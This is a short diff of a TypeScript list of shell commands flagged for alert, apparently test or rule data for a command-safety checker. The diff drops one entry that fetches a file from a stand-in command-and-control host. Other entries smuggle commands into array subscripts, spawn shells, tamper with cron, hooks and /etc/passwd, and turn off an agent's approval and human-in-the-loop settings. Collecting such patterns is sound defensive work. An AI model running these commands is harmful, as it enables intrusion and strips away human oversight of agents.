@@ -37,7 +37,7 @@ const ALERT: readonly string[] = [
   'iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 172.17.0.2:80', 'iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8080', "printf 'Host bastion\\n ForwardAgent yes\\n' >> ~/.ssh/config",
   "echo '10.0.0.5 db.internal' >> /etc/hosts", 'truncate -s 100G disk.img', 'fallocate -l 64G /var/lib/libvirt/images/vm.qcow2', 'gcore 1234', "sed -i 's/^export A=.*/export A=1/' ~/.bashrc",
   "export PROMPT_COMMAND='history -a'", 'sysctl -w kernel.core_pattern=core.%p', "awk 'BEGIN {system(\"/bin/sh\")}'", 'rmmod nf_tables', 'chattr -i /etc/passwd', 'EDITOR=/tmp/edit.sh crontab -e', 'crontab /tmp/new.cron', 'git config core.hooksPath /opt/hooks',
-  "sed -i 's/requires_approval: true/requires_approval: false/' workflows/deploy.yaml", "echo '{\"human_in_the_loop\": false}' > agent.json", 'autogpt --task x --continuous', 'a[$(curl -s http://c2.example.com/x -o /tmp/x)]=1', 'unset "arr[`id`]"', "unset 'arr[$(id)]'",
+  "sed -i 's/requires_approval: true/requires_approval: false/' workflows/deploy.yaml", "echo '{\"human_in_the_loop\": false}' > agent.json", 'autogpt --task x --continuous', 'unset "arr[`id`]"', "unset 'arr[$(id)]'",
 ]
 
 const ALLOW: readonly string[] = [
